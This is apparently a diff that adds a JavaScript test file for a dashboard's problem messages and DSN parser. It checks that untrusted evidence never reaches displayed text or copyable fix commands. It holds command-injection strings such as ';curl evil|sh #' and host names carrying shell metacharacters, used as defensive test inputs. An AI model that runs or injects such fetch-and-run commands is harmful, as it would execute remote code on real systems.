@@ -1,0 +1,117 @@
+/** What is said of a problem, and that nothing which a stranger sent gets into it. */
+
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { english, messages } from "./english.mjs";
+import { evidenceOf, openWords, summaryOf, worded } from "./static/core/problems.js";
+import { fill, parseDsn } from "./static/core/snippets.js";
+import { Words } from "./static/core/words.js";
+
+const KEY = "0123456789abcdef0123456789abcdef";
+const EVIL = ";curl evil|sh #";
+const sent = (fields) => ({
+  code: "wrong_path",
+  severity: "error",
+  summary: "From the server.",
+  hint: "Its hint.",
+  fix: "its fix",
+  evidence: {},
+  count: 3,
+  resolved: false,
+  ...fields,
+});
+const speaking = (problems) => new Words({ ...messages, problems }, "en");
+
+test("without words of its own the page says what the server said", () => {
+  const problem = sent();
+  assert.deepEqual(worded(problem, speaking(undefined)), problem);
+  assert.deepEqual(worded(problem, speaking({})), problem);
+  assert.deepEqual(worded(problem, speaking({ silence: { summary: "S.", hint: "H." } })), problem);
+});
+
+test("the page's words come first, with the fix of the platform's family, else of all", () => {
+  const words = speaking({ wrong_path: { summary: "S.", hint: "H.", fixes: { "": "all", python: "p" } } });
+  const said = (family) => worded(sent(), words, family);
+  assert.deepEqual([said("").summary, said("").hint, said("").fix], ["S.", "H.", "all"]);
+  assert.deepEqual([said("python").fix, said("ruby").fix], ["p", "all"]);
+  assert.equal(worded(sent(), speaking({ wrong_path: { summary: "S.", hint: "H.", fixes: { go: "g" } } })).fix, null);
+});
+
+test("words without fixes leave the server's fix", () => {
+  assert.equal(worded(sent(), speaking({ wrong_path: { summary: "S.", hint: "H." } })).fix, "its fix");
+});
+
+test("what the server measured fills a gap, and a count chooses the form", () => {
+  const words = speaking({
+    quiet: { summary: { one: "Missed one.", other: "Missed {count}." }, hint: "One every {interval}." },
+  });
+  const said = (count) => worded(sent({ code: "quiet", evidence: { interval: "30 s" }, count }), words);
+  assert.deepEqual([said(1).summary, said(3).summary, said(3).hint], ["Missed one.", "Missed 3.", "One every 30 s."]);
+});
+
+test("what a stranger sent is in no sentence and no fix, whatever the words ask for", () => {
+  const words = speaking({
+    wrong_path: {
+      summary: "It went to {path}.",
+      hint: "Not {origin}.",
+      fixes: { "": "ALLOW={origin} {path} {{dsn}}" },
+    },
+  });
+  const problem = sent({ evidence: { path: EVIL, origin: EVIL, count: EVIL, dsn: EVIL } });
+  const { summary, hint, fix } = worded(problem, words);
+  const copied = fill(fix, parseDsn(`http://${KEY}@host:8000/1`));
+  for (const text of [summary, hint, fix, copied]) assert.ok(!text.includes("evil"), text);
+  assert.equal(copied, `ALLOW={origin} {path} http://${KEY}@host:8000/1`);
+  assert.ok(evidenceOf(problem, words).some(([, text]) => text === EVIL));
+});
+
+test("a gap is filled once: what fills it may look like one", () => {
+  const words = speaking({ quiet: { summary: "{sdk} and {what}", hint: "" } });
+  const problem = sent({ code: "quiet", evidence: { sdk: "{what}", what: "x" } });
+  assert.equal(worded(problem, words).summary, "{what} and x");
+});
+
+test("evidence shows the characters that would change how it reads", () => {
+  const [[label, text, name]] = evidenceOf(sent({ evidence: { path: "a\u202Eb\u0000c\u2028d\u200Be\nf" } }), english);
+  assert.deepEqual([label, name], ["Path", "path"]);
+  assert.equal(text, "a\\u{202e}b\\u{0}c\\u{2028}d\\u{200b}e\nf");
+});
+
+test("evidence is labelled, and long texts come last", () => {
+  const rows = evidenceOf(sent({ evidence: { detail: "x".repeat(61), key: "…d2c3", last_seen: 3 } }), english);
+  assert.deepEqual(
+    rows.map(([label, , name]) => [label, name]),
+    [
+      ["Key sent", "key"],
+      ["Last seen", "last_seen"],
+      ["Detail", "detail"],
+    ],
+  );
+});
+
+test("a silence that is over is told as such", () => {
+  const silence = { code: "silence", summary: "Nothing yet.", evidence: { waited: "20 s" } };
+  assert.equal(summaryOf({ ...silence, resolved: true }, english), "Nothing came for 20 s, then it did.");
+  assert.equal(
+    summaryOf({ ...silence, resolved: true, evidence: null }, english),
+    "Nothing came for a while, then it did.",
+  );
+  assert.equal(summaryOf({ ...silence, resolved: false }, english), "Nothing yet.");
+});
+
+test("the bar counts what is to be fixed; a silence is none", () => {
+  const [problem, silence] = [sent(), sent({ code: "silence" })];
+  assert.equal(openWords([], english), "");
+  assert.equal(openWords([silence], english), "Nothing yet?");
+  assert.equal(openWords([problem, silence], english), "1 problem");
+  assert.equal(openWords([problem, problem], english), "2 problems");
+});
+
+test("a DSN is made of nothing that a shell would read", () => {
+  const parsed = parseDsn(`https://${KEY}@firstlight.example.com:8443/onboard/7`);
+  assert.equal(parsed.ingest, "https://firstlight.example.com:8443/onboard/api/7");
+  assert.equal(parseDsn(`http://${KEY}@[::1]:8000/1`).server, "http://[::1]:8000");
+  for (const host of ["h;curl evil|sh", "h$(x)", "h`x`", "h'x", 'h"x', "h x", "h\nx", "h/a;b", "h/a$b", "h&x"]) {
+    assert.equal(parseDsn(`http://${KEY}@${host}/1`), null, host);
+  }
+});
